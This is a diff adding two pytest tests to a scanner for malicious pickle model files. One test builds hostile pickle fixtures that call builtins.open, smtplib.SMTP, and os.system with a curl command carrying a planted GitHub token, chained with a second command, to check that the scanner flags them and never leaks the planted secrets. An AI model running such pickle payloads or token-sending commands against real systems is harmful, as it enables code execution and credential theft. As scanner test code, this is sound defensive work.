@@ -344,3 +344,31 @@ def test_a_long_pickle_skips_fickling_but_a_call_hidden_after_padding_is_still_c
     assert hidden["verdict"] == "unsafe" and clean["verdict"] == "safe"
     assert clean["pickles"][0]["analysers"]["fickling"].startswith("skipped")
     assert not marker.exists()
+
+
+def test_a_path_without_model_files_is_not_an_empty_pass(scan_root: Path) -> None:
+    (scan_root / "notes.txt").write_text("nothing here", encoding="utf-8")
+    result = scan(scan_root)
+    assert result["status"] == "failed" and result["errors"][0]["kind"] == "no_models"
+    classified = scan(scan_root, answers={"interacts_with_people": True})
+    assert (
+        classified["status"] == "degraded"
+        and classified["ai_model"]["ai_act"]["risk_class"] == "transparency"
+    )
+
+
+def test_values_carried_in_a_pickle_never_reach_the_result_or_the_logs(
+    scan_root: Path, marker: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    from tests.planted import BSN, EMAIL, GH_TOKEN
+
+    # fickling quotes a short call's arguments in its messages (a long one it elides)
+    (scan_root / "exfil.pkl").write_bytes(fx.call("builtins", "open", BSN, "w"))
+    (scan_root / "mail.pkl").write_bytes(fx.call("smtplib", "SMTP", EMAIL))
+    payload = fx.call("os", "system", f"curl -H 'Authorization: token {GH_TOKEN}' x; touch {marker}")
+    (scan_root / "broken.pkl").write_bytes(payload[:-3])  # fickling complains about a truncated one
+    result = scan(scan_root)
+    assert model(result, "exfil.pkl")["verdict"] == "unsafe" and not marker.exists()
+    out, err = capfd.readouterr()
+    assert_no_planted(json.dumps(result), caplog.text, out, err)
